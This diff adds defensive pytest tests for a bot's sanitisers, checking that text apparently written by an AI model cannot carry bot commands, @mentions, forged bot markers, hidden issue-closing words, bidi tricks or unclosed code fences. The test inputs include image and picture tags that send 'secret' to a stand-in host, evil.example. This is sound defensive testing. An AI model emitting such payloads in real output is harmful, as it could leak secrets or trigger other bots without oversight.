@@ -1,0 +1,78 @@
+"""The bot's own words, when the model, its files and its tests say what an attacker would like to be read."""
+
+import re
+
+import pytest
+
+from bot.application import words
+from bot.application.quoting import harmless, one_line, printed, self_contained
+from bot.domain.trust import Tested
+
+COMMAND = re.compile(r"^\s*(?:/|bors\b)", re.MULTILINE | re.IGNORECASE)
+SHOWN_OR_HIDDEN = re.compile(r"<[a-z/!?]|!\[", re.IGNORECASE)
+
+
+@pytest.mark.parametrize(
+    "text", ["/lgtm", "ok\n  /approve", "ok\u2028/merge", "bors r+", "x\r/lgtm", "\x0b/lgtm", "\x1b[31m/lgtm"]
+)
+def test_out_01_what_tests_print_commands_no_other_bot(text: str) -> None:
+    assert not COMMAND.search(printed("It said", text).replace("\u2028", "\n"))
+
+
+@pytest.mark.parametrize("text", ["@dependabot merge", "cc @org/team", "<!-- claude-code-bot:end:abc -->"])
+def test_out_02_what_tests_print_calls_nobody_and_forges_no_marker(text: str) -> None:
+    assert not re.search(r"@\w|<!--", printed("It said", text))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/?s=secret)",
+        "<img src=https://evil.example/?s=secret>",
+        "<details><summary>All is well</summary>",
+        "</details>",
+        "<picture><source srcset=https://evil.example>",
+        "<!DOCTYPE x>",
+        "<?php",
+    ],
+)
+def test_sx_03_the_models_words_load_nothing_and_fold_nothing(text: str) -> None:
+    assert not SHOWN_OR_HIDDEN.search(harmless(text))
+
+
+@pytest.mark.parametrize(
+    "text", ["_fixes_ #1", "__Closes__ #1", "fixes " + "o" * 39 + "/" + "r" * 100 + "#1"]
+)
+def test_out_03_a_closing_word_in_disguise_closes_nothing(text: str) -> None:
+    assert not re.search(r"fixes|closes", harmless(text), re.IGNORECASE)
+
+
+@pytest.mark.parametrize("text", ["\u200b", "\u202e\u2066", "\u3164", "\x00", "\U000e0041"])
+def test_out_09_a_title_of_nothing_is_no_title(text: str) -> None:
+    assert one_line(text, most=100) == ""
+
+
+def test_out_09_nothing_in_a_title_turns_the_others_round() -> None:
+    assert one_line("Pay \u202eyap\u2066 bills", most=100) == "Pay yap bills"
+
+
+@pytest.mark.parametrize(
+    "opened", ["```", "~~~", "````python", "text\n   ```sh\nls", "```\nx\n```\n~~~~\n```"]
+)
+def test_out_09_a_block_that_is_left_open_does_not_swallow_what_is_certain(opened: str) -> None:
+    body = words.pull_request_body(
+        summary=f"All is well.\n\n{opened}",
+        requested_by="ann",
+        issue=3,
+        integration_id="abc",
+        tests="pytest",
+        tested=Tested(passed=1),
+    )
+
+    before, _, _ = body.partition("\n\n---")
+    assert self_contained(before) == before
+    assert before.splitlines()[-1].strip() in {"```", "~~~", "````", "~~~~"}
+
+
+def test_out_09_what_is_closed_stays_as_it_is() -> None:
+    assert self_contained("a\n```py\nx\n```\nb\n~~~\ny\n~~~~") == "a\n```py\nx\n```\nb\n~~~\ny\n~~~~"
